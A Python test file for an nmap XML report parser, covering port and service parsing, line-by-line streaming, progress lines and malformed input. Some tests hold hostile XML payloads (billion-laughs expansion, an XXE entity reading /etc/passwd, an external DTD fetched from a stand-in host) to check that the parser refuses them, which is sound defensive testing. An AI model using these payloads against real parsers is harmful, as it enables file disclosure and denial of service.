"""NmapStream, parse_nmap_xml and nmap_progress against real nmap 7.93 reports (see tests/fixtures/README.md)."""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from appliance.parsers.lines import output_lines
from appliance.parsers.nmap_xml import PARSE_BATCH_BYTES, NmapStream, nmap_progress, parse_nmap_xml
from appliance.results import NmapHost
from appliance.runner import MAX_LINE_BYTES

FIXTURES = Path(__file__).parent.parent / "fixtures" / "nmap"


def fixture(name: str) -> bytes:
    return (FIXTURES / name).read_bytes()


def test_connect_scan_lists_open_ports_and_counts_the_closed_one() -> None:
    result = parse_nmap_xml(fixture("connect.xml"))

    assert result.complete
    assert result.error is None
    [host] = result.hosts
    assert host.address == "127.0.0.1"
    assert host.status == "up"
    assert host.hostnames == []
    assert [(p.port, p.protocol, p.state, p.reason) for p in host.ports] == [
        (18081, "tcp", "open", "syn-ack"),
        (18082, "tcp", "open", "syn-ack"),
    ]
    assert host.port_counts == {"open": 2, "closed": 1}


def test_version_scan_reads_service_product_version_and_scripts() -> None:
    result = parse_nmap_xml(fixture("version.xml"))

    assert result.complete
    [host] = result.hosts
    ports = {p.port: p for p in host.ports}
    assert set(ports) == {18022, 18080}  # 18083 is closed: counted, not listed
    assert host.port_counts == {"open": 2, "closed": 1}
    ssh, http = ports[18022], ports[18080]
    assert (ssh.service, ssh.product, ssh.version, ssh.extrainfo) == (
        "ssh",
        "OpenSSH",
        "9.2p1 Debian 2+deb12u3",
        "protocol 2.0",
    )
    assert (http.service, http.product, http.version) == ("http", "SimpleHTTPServer", "0.6")
    assert http.extrainfo is not None
    assert http.extrainfo.startswith("Python 3.")
    scripts = {s.id: s.output for s in http.scripts}
    # nmap runs scripts concurrently, so their order changes between runs.
    assert set(scripts) == {"http-title", "http-server-header"}
    assert scripts["http-title"] == "Site doesn't have a title (text/html)."
    assert scripts["http-server-header"].startswith("SimpleHTTP/0.6 Python/3.")


def test_ping_scan_reports_host_without_ports() -> None:
    result = parse_nmap_xml(fixture("ping.xml"))

    assert result.complete
    [host] = result.hosts
    assert (host.address, host.status, host.ports, host.port_counts) == ("127.0.0.1", "up", [], {})


def test_two_hosts_keep_their_own_ports() -> None:
    result = parse_nmap_xml(fixture("two_hosts.xml"))

    assert result.complete
    assert {h.address: ([p.port for p in h.ports], h.port_counts) for h in result.hosts} == {
        "10.250.1.1": ([8080], {"closed": 2, "open": 1}),
        "10.250.1.2": ([2222, 8080], {"closed": 1, "open": 2}),
    }
    # -sT without -sV: the service name is nmap's guess from its port table.
    assert result.hosts[0].ports[0].service == "http-proxy"


def test_progress_run_parses_like_any_report() -> None:
    result = parse_nmap_xml(fixture("progress.xml"))

    assert result.complete
    [host] = result.hosts
    assert [(p.port, p.state) for p in host.ports] == [(20500, "open")]
    # The 1999 closed ports are folded into <extraports>: counted all the same.
    assert host.port_counts == {"closed": 1999, "open": 1}


def test_partial_document_keeps_only_closed_hosts() -> None:
    result = parse_nmap_xml(fixture("partial.xml"))

    assert not result.complete
    assert result.error is not None
    assert [h.address for h in result.hosts] == ["10.250.1.1"]
    assert [p.port for p in result.hosts[0].ports] == [8080]
    assert result.hosts[0].port_counts == {"closed": 2, "open": 1}


def test_every_cut_of_a_report_yields_the_hosts_closed_before_it() -> None:
    data = fixture("two_hosts.xml")
    end = data.rindex(b"</nmaprun>") + len(b"</nmaprun>")
    for cut in range(end):
        result = parse_nmap_xml(data[:cut])
        assert not result.complete, cut
        assert result.error is not None, cut
        assert len(result.hosts) == data[:cut].count(b"</host>"), cut


# the stream: fed line by line, as the runner's line callback hands nmap's stdout over

FIXTURE_NAMES = ["connect.xml", "version.xml", "ping.xml", "progress.xml", "two_hosts.xml", "partial.xml"]


def fed(lines: list[bytes]) -> tuple[NmapStream, list[bool]]:
    stream = NmapStream()
    return stream, [stream.feed(line) for line in lines]


def hosts_of(stream: NmapStream) -> list[NmapHost]:
    hosts: list[NmapHost] = stream.fields()["hosts"]
    return hosts


@pytest.mark.parametrize("name", FIXTURE_NAMES)
def test_feeding_line_by_line_equals_feeding_the_whole_document_at_once(name: str) -> None:
    data = fixture(name)
    whole = NmapStream()
    whole.feed(data)  # below the piece size: one feed, one expat call, no line splitting at all

    by_line, _ = fed(list(output_lines(data)))

    assert hosts_of(by_line) == hosts_of(whole)
    assert by_line.close() == whole.close()


def test_each_host_arrives_at_the_line_that_closes_it() -> None:
    lines = list(output_lines(fixture("two_hosts.xml")))
    stream = NmapStream()
    for number, line in enumerate(lines):
        completed = stream.feed(line)
        assert completed == (b"</host>" in line), number
        # No close(), no end of document: what a running scan has so far.
        assert len(hosts_of(stream)) == sum(b"</host>" in seen for seen in lines[: number + 1]), number
    assert [h.address for h in hosts_of(stream)] == ["10.250.1.1", "10.250.1.2"]


def test_a_document_cut_at_every_line_boundary_yields_its_finished_hosts() -> None:
    complete = parse_nmap_xml(fixture("two_hosts.xml")).hosts
    lines = list(output_lines(fixture("two_hosts.xml")))
    for cut in range(len(lines)):
        stream, _ = fed(lines[:cut])
        finished = sum(b"</host>" in line for line in lines[:cut])
        assert hosts_of(stream) == complete[:finished], cut
        result = stream.close()
        assert (result.hosts, result.complete) == (complete[:finished], False), cut


def long_script_document(output: str) -> bytes:
    """One host whose script output line is longer than the runner's piece size, escaped as nmap does."""
    escaped = output.replace("&", "&amp;").replace('"', "&quot;").replace("\n", "&#xa;").encode()
    return (
        b'<?xml version="1.0" encoding="UTF-8"?>\n<nmaprun>\n'
        b'<host><status state="up" reason="syn-ack"/>\n<address addr="127.0.0.1" addrtype="ipv4"/>\n'
        b'<ports><port protocol="tcp" portid="80"><state state="open" reason="syn-ack"/>'
        b'<service name="http"/><script id="http-title" output="' + escaped + b'"/></port>\n'
        b"</ports>\n</host>\n</nmaprun>\n"
    )


def test_script_output_longer_than_a_line_piece_is_kept_exactly() -> None:
    # Newlines (escaped &#xa;) and quotes everywhere, so piece boundaries fall inside references
    # and between characters a newline or space would change.
    output = "".join(f'line {i}: "quoted" & more\n' for i in range(9000))
    document = long_script_document(output)
    lines = list(output_lines(document))
    assert any(len(line) == MAX_LINE_BYTES for line in lines)  # the long line did arrive in pieces

    stream, completed = fed(lines)

    [host] = hosts_of(stream)
    assert host.ports[0].scripts[0].output == output
    assert completed.count(True) == 1
    assert stream.close().complete


def test_a_long_line_goes_to_expat_once_when_it_ends() -> None:
    # Fed piece by piece, expat rescans an unfinished attribute from its start at every piece:
    # quadratic in the line's length. The pieces wait for the end of their line instead.
    document = long_script_document("x" * (5 * MAX_LINE_BYTES))
    lines = list(output_lines(document))
    stream, handed = counted(NmapStream())
    for line in lines:
        stream.feed(line)

    # Every parser call ends at the end of a line, and one call holds the whole long line.
    assert all(data.endswith(b"\n") for data in handed)
    assert sum(b"x" * MAX_LINE_BYTES in data for data in handed) == 1
    assert max(len(data) for data in handed) > 5 * MAX_LINE_BYTES
    assert hosts_of(stream)[0].ports[0].scripts[0].output == "x" * (5 * MAX_LINE_BYTES)


def counted(stream: NmapStream) -> tuple[NmapStream, list[bytes]]:
    """`stream` with each piece of data it hands its XML parser recorded."""
    handed: list[bytes] = []
    feed = stream._parser.feed

    def counting_feed(data: bytes) -> None:
        handed.append(data)
        feed(data)

    stream._parser.feed = counting_feed  # type: ignore[method-assign]
    return stream, handed


def test_lines_go_to_expat_together_up_to_each_line_that_may_close_a_host() -> None:
    # One parser call per host rather than one per line; test_each_host_arrives_at_the_line_that_
    # closes_it shows that no host waits for it.
    lines = list(output_lines(fixture("two_hosts.xml")))
    stream, handed = counted(NmapStream())
    for line in lines:
        stream.feed(line)
    ends = [number for number, line in enumerate(lines) if b"</host" in line]
    assert len(handed) == len(ends)
    assert handed[0] == b"".join(line + b"\n" for line in lines[: ends[0] + 1])
    stream.close()
    assert len(handed) == len(ends) + (ends[-1] < len(lines) - 1)  # the rest at the end
    assert b"".join(handed) == b"".join(line + b"\n" for line in lines)


def test_lines_without_a_host_end_wait_no_longer_than_a_batch() -> None:
    # A document without hosts (or a flood) is parsed as it grows, never held whole.
    lines = [b"<nmaprun>"] + [b"<!-- " + b"y" * 1000 + b" -->"] * 200
    stream, handed = counted(NmapStream())
    for line in lines:
        stream.feed(line)
    assert len(handed) >= 200 * 1000 // PARSE_BATCH_BYTES
    assert all(len(data) <= PARSE_BATCH_BYTES + 1100 for data in handed)


def test_output_cut_inside_a_long_line_keeps_the_hosts_before_it() -> None:
    first = parse_nmap_xml(fixture("connect.xml")).hosts
    document = fixture("connect.xml").replace(b"</nmaprun>", b"")
    cut = document + long_script_document("y" * (3 * MAX_LINE_BYTES)).split(b"\n", 2)[2][: 2 * MAX_LINE_BYTES]

    stream, _ = fed(list(output_lines(cut)))

    result = stream.close()
    assert (result.hosts, result.complete) == (first, False)


def test_newline_after_each_piece_would_change_the_script_output() -> None:
    # The control for the test above: pieces fed as if they were whole lines (each shorter than
    # the piece size, so each gets its newline back) do not survive.
    output = "".join(f'line {i}: "quoted" & more\n' for i in range(9000))
    document = long_script_document(output)
    pieces = [document[i : i + MAX_LINE_BYTES - 1] for i in range(0, len(document), MAX_LINE_BYTES - 1)]

    stream, _ = fed(pieces)

    assert [s.output for h in hosts_of(stream) for p in h.ports for s in p.scripts] != [output]


def test_extraports_counts_add_up_and_a_bogus_count_is_ignored() -> None:
    document = (
        b'<nmaprun><host><address addr="10.250.1.1" addrtype="ipv4"/><ports>'
        b'<extraports state="closed" count="90"/><extraports state="filtered" count="8"/>'
        b'<extraports state="closed" count="99999999"/><extraports state="closed" count="-1"/>'
        b'<port protocol="tcp" portid="22"><state state="open"/></port>'
        b'<port protocol="tcp" portid="23"><state state="closed"/></port>'
        b'<port protocol="tcp" portid="24"><state state="filtered"/></port></ports></host></nmaprun>'
    )

    [host] = parse_nmap_xml(document).hosts

    assert [p.port for p in host.ports] == [22]
    assert host.port_counts == {"closed": 91, "filtered": 9, "open": 1}


def test_fed_nmap_xml_refuses_billion_laughs_and_reports_no_host() -> None:
    entities = b"".join(b'<!ENTITY lol%d "%s">\n' % (i, b"&lol%d;" % (i - 1) * 10) for i in range(1, 10))
    document = (
        b'<?xml version="1.0"?>\n<!DOCTYPE nmaprun [\n<!ENTITY lol0 "lol">\n' + entities + b"]>\n"
        b'<nmaprun>\n<host><status state="&lol9;"/><address addr="127.0.0.1" addrtype="ipv4"/></host>\n'
        b'<host><status state="up"/><address addr="127.0.0.2" addrtype="ipv4"/></host>\n</nmaprun>\n'
    )

    stream, completed = fed(list(output_lines(document)))

    assert not any(completed)
    assert hosts_of(stream) == []
    error = stream.close().error
    assert error is not None
    assert "EntitiesForbidden" in error


def test_fed_nmap_xml_refuses_external_entity_xxe() -> None:
    document = (
        b'<?xml version="1.0"?>\n<!DOCTYPE nmaprun [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
        b'<nmaprun>\n<host><status state="up"/><address addr="127.0.0.1" addrtype="ipv4"/>'
        b'<hostnames><hostname name="&xxe;"/></hostnames></host>\n</nmaprun>\n'
    )

    stream, completed = fed(list(output_lines(document)))

    assert (any(completed), hosts_of(stream)) == (False, [])
    assert "EntitiesForbidden" in (stream.close().error or "")


def test_feed_after_close_is_ignored() -> None:
    stream = NmapStream()
    stream.close()

    assert stream.feed(b'<nmaprun><host><address addr="127.0.0.1" addrtype="ipv4"/></host>') is False
    assert hosts_of(stream) == []


# hostile documents: refused before anything is expanded or fetched


def test_nmap_xml_refuses_billion_laughs() -> None:
    entities = b"".join(b'<!ENTITY lol%d "%s">\n' % (i, b"&lol%d;" % (i - 1) * 10) for i in range(1, 10))
    document = (
        b'<?xml version="1.0"?>\n<!DOCTYPE nmaprun [\n<!ENTITY lol0 "lol">\n' + entities + b"]>\n"
        b'<nmaprun><host><status state="&lol9;"/><address addr="127.0.0.1" addrtype="ipv4"/>'
        b"</host></nmaprun>\n"
    )

    result = parse_nmap_xml(document)

    assert result.hosts == []
    assert not result.complete
    assert result.error is not None
    assert "EntitiesForbidden" in result.error


def test_nmap_xml_refuses_external_entity_xxe() -> None:
    document = (
        b'<?xml version="1.0"?>\n<!DOCTYPE nmaprun [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
        b'<nmaprun><host><status state="up"/><address addr="127.0.0.1" addrtype="ipv4"/>'
        b'<hostnames><hostname name="&xxe;"/></hostnames></host></nmaprun>\n'
    )

    result = parse_nmap_xml(document)

    assert result.hosts == []
    assert result.error is not None
    assert "EntitiesForbidden" in result.error


def test_nmap_xml_refuses_external_parameter_entity() -> None:
    document = (
        b'<?xml version="1.0"?>\n'
        b'<!DOCTYPE nmaprun [<!ENTITY % remote SYSTEM "http://192.0.2.1/evil.dtd"> %remote;]>\n'
        b"<nmaprun/>\n"
    )

    result = parse_nmap_xml(document)

    assert result.hosts == []
    assert result.error is not None
    assert "EntitiesForbidden" in result.error


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(b"", id="empty"),
        pytest.param(b"garbage\n", id="text"),
        pytest.param(b"\x00\xff\xfe" * 50, id="binary"),
        pytest.param(b'{"hosts": []}', id="json"),
        pytest.param(b"<html><body>nmap</body></html>", id="other-root"),
        pytest.param(b'<?xml version="1.0" encoding="bogus"?><nmaprun/>', id="unknown-encoding"),
        pytest.param(b'<?xml version="1.0" encoding="shift_jis"?><nmaprun/>', id="multibyte-encoding"),
        pytest.param(b"<nmaprun>" + b"<x>" * 50_000, id="deep-nesting"),
        pytest.param(b"<nmaprun></nmaprun>junk", id="junk-after-root"),
    ],
)
def test_garbage_returns_an_error_and_no_hosts(data: bytes) -> None:
    result = parse_nmap_xml(data)

    assert result.hosts == []
    assert not result.complete
    assert result.error


def test_host_without_address_is_skipped() -> None:
    result = parse_nmap_xml(b'<nmaprun><host><status state="up"/></host></nmaprun>')

    assert (result.hosts, result.complete, result.error) == ([], True, None)


def test_ipv4_address_is_preferred_over_mac() -> None:
    document = (
        b'<nmaprun><host><status state="up"/><address addr="02:00:00:00:00:01" addrtype="mac"/>'
        b'<address addr="10.250.1.1" addrtype="ipv4"/></host></nmaprun>'
    )

    assert parse_nmap_xml(document).hosts[0].address == "10.250.1.1"


def test_port_with_invalid_number_is_skipped() -> None:
    document = (
        b'<nmaprun><host><address addr="10.250.1.1" addrtype="ipv4"/><ports>'
        b'<port protocol="tcp" portid="70000"><state state="open"/></port>'
        b'<port protocol="tcp" portid="x"><state state="open"/></port>'
        b'<port protocol="tcp" portid="\xc2\xb2"><state state="open"/></port>'
        b'<port protocol="tcp" portid="99999999999999999999"><state state="open"/></port>'
        b'<port protocol="tcp" portid="22"><state state="open"/></port></ports></host></nmaprun>'
    )

    assert [p.port for p in parse_nmap_xml(document).hosts[0].ports] == [22]


def test_nmap_reported_error_is_passed_on() -> None:
    document = b'<nmaprun><runstats><finished exit="error" errormsg="Failed to open device"/></runstats></nmaprun>'

    result = parse_nmap_xml(document)

    assert (result.complete, result.error) == (True, "Failed to open device")


@settings(max_examples=300, deadline=None)
@given(st.binary(max_size=400))
def test_arbitrary_bytes_never_raise(data: bytes) -> None:
    result = parse_nmap_xml(data)

    assert result.complete or result.error


# progress


def test_progress_from_real_stats_lines() -> None:
    lines = fixture("progress.xml").splitlines()

    percents = [p for p in map(nmap_progress, lines) if p is not None]

    # One line a second over a ~7 s scan; the exact values shift between captures.
    assert len(percents) == sum(line.startswith(b"<taskprogress ") for line in lines) >= 3
    assert percents == sorted(percents)
    assert all(0.0 < p < 100.0 for p in percents)


@pytest.mark.parametrize(
    "line",
    [
        b"",
        b'<host starttime="1" endtime="2"><status state="up"/>',
        b'<taskbegin task="Connect Scan" time="1795627004"/>',
        b'<taskprogress task="Connect Scan" time="1" percent="abc" remaining="6"/>',
        b'<taskprogress task="Connect Scan" time="1" percent="250.00" remaining="6"/>',
        b"Stats: 0:00:01 elapsed; Connect Scan Timing: About 14.40% done",
    ],
)
def test_progress_is_none_for_other_lines(line: bytes) -> None:
    assert nmap_progress(line) is None


def test_progress_takes_the_last_of_several_updates() -> None:
    chunk = (
        b'<taskprogress task="Connect Scan" time="1" percent="14.40" remaining="6"/>'
        b'<taskprogress task="Connect Scan" time="2" percent="29.40" remaining="5"/>'
    )

    assert nmap_progress(chunk) == 29.4
